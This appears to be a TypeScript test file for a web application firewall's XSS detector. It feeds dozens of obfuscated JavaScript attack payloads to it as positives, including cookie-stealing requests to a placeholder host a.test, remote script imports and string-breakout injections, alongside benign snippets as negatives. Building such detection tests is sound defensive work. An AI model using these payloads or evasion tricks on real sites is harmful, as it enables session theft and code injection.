import assert from 'node:assert/strict';
import { test } from 'node:test';
import { weigh } from '../../../../src/guard/decide/waf/detect/xss/script/weigh.ts';

for (const code of [
  'alert(1)',
  'alert`1`',
  '(alert)(1)',
  'alert?.(1)',
  'window["alert"](1)',
  "top['al'+'ert'](1)",
  'frames[0].alert(1)',
  'self[/al/.source+/ert/.source](1)',
  '\\u0061lert(1)',
  'al\\u{65}rt(1)',
  '[1].find(alert)',
  'onerror=alert;throw 1',
  'a=alert;a(1)',
  'var{alert:x}=window;x(1)',
  'Reflect.apply(alert,null,[1])',
  'alert.call(null,1)',
  '({toString:alert})+""',
  'eval(atob("x"))',
  "setTimeout('alert(1)')",
  'setTimeout`alert\\x281\\x29`',
  "[].at.constructor('x')()",
  'x.constructor.constructor`y`()',
  "location='java'+'script:alert(1)'",
  "location='javascript:alert(1)'",
  'location=name',
  'fetch("//a.test/"+document.cookie)',
  'new Image().src="//a.test/"+document["cookie"]',
  "import('//a.test/x.js')",
  '[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]+(![]+[])[!+[]+!+[]]]',
  'if(1)alert(1)',
  'do{alert(1)}while(0)',
  'x=>alert(1)',
  '/*a*/alert/*b*/(1)//c',
  '<!-- a\nalert(1)',
]) {
  test(`${code} is what an attack does`, () => {
    const found = weigh(code);
    assert.ok(found.valid, 'it is JavaScript');
    assert.equal(found.level, 3);
    assert.equal(found.soft, false);
  });
}

for (const code of [
  "return confirm('Are you sure that you want to delete it?')",
  'alert("Please fill in your name first.")',
  'alert("Hello " + name)',
]) {
  test(`${code} is what ordinary pages do as well`, () => {
    const found = weigh(code);
    assert.equal(found.soft, true);
    assert.ok(found.valid);
  });
}

for (const [code, level] of [
  ['toggle()', 1],
  ["this.src='x.png'", 1],
  ['a.b.c(d)', 1],
  ['const { alert, confirm } = useDialog()', 1],
  ['user.name', 0],
  ['void(0)', 0],
  ['function f(a) { return a + 1 }\nf(2)', 1],
  ['for (const a of b) { c(a); }', 1],
  ['class A extends B { get x() { return 1; } }', 1],
  ['async function f() { await g(); }', 1],
  ['import a, { b } from "c"\nd()', 1],
  ['x = a / b / c', 1],
  ['x = /["\'(]/g.test(y)', 1],
  ['`a ${b} c ${d.e}`', 0],
] as const) {
  test(`${code} is ordinary code`, () => {
    const found = weigh(code);
    assert.ok(found.valid, 'it is JavaScript');
    assert.ok(found.level <= level, `${found.level} ${found.what}`);
  });
}

for (const text of [
  'the good parts',
  'alert (people) now',
  '{"a":"alert(1)"}',
  'a ) b',
  "it's (fine)",
  '5px solid',
  'f(a;b)',
  'SELECT a FROM b',
  'x = "unclosed\nstring"',
]) {
  test(`${text} is no JavaScript`, () => assert.equal(weigh(text).valid, false));
}

test('behind a string only what can go on with an expression is JavaScript', () => {
  for (const rest of ['-alert(1)-"', ';alert(1)//', ');alert(1);(', '+alert(1)+"', '}};alert(1);{{']) {
    assert.ok(weigh(`'${rest}`, 1, true).valid, rest);
  }
  for (const rest of ['s right; alert(1)', ' OR alert(1)', 'x'])
    assert.ok(!weigh(`'${rest}`, 1, true).valid, rest);
});
